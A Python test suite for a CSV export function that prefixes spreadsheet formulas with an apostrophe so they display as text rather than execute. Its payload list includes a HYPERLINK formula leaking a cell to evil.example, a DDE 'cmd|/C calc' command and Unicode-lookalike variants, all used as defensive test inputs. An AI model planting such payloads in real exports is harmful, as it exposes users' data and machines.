"""Exports open in a spreadsheet as what people typed, and run none of it."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tawam.rest.csv_text import csv_text

FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
    "+971 50 123 4567",
    "-2+3+cmd|/C calc!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
]


def unmarked(cell: str) -> str:
    """As it was typed, where nobody types an apostrophe."""
    return cell.replace("'", "")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


class TestCells:
    @pytest.mark.parametrize("typed", FORMULAS)
    def test_formula_is_shown_and_not_run(self, typed: str) -> None:
        ((head,), (cell,)) = cells(csv_text([{"name": typed}]))
        assert (head, cell[0], unmarked(cell)) == ("name", "'", typed)

    @pytest.mark.parametrize(
        "typed", ["Ann;=1+1", "Ann; @SUM(A1:A9);", "Hello\n=1+1;", "Hello\r\n\t-1;", "a;＝1;b"]
    )
    def test_nor_is_one_where_a_spreadsheet_takes_semicolons_for_commas(self, typed: str) -> None:
        """Those of many countries do, Arabic ones among them: then our quotes hold nothing together."""
        text = csv_text([{"first": "Ann", "name": typed, "after": {"note": typed}}])
        starts = [cell.strip()[:1] for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
        assert not any(unicodedata.normalize("NFKC", start) in tuple("=+-@") for start in starts)
        assert unmarked(cells(text)[1][1]) == typed

    @given(st.lists(st.tuples(st.text(), st.text()), min_size=1, max_size=3))
    def test_text_comes_back_as_typed_or_with_its_mark_in_front(self, typed: list[tuple[str, str]]) -> None:
        head, *lines = cells(csv_text([{"a": first, "b": second} for first, second in typed]))
        assert head == ["a", "b"]
        for line, texts in zip(lines, typed, strict=True):
            for cell, text in zip(line, texts, strict=True):
                assert cell.replace("'", "") == text.replace("'", "")
                assert unicodedata.normalize("NFKC", cell)[:1] not in tuple("=+-@\t\r")

    def test_names_that_a_query_gives_are_cells_too(self) -> None:
        assert csv_text([{"id": 1, "=1+1": 2, "a,b": 3}]) == """id,"'=1+1","a,b"\n1,2,3"""

    def test_text_is_quoted_and_everything_else_is_bare(self) -> None:
        row = {"text": "a", "empty": "", "number": -5, "part": -0.5, "is": True, "none": None, "json": ["a"]}
        assert csv_text([row]).splitlines()[1] == '"a","",-5,-0.5,t,,"[""a""]"'
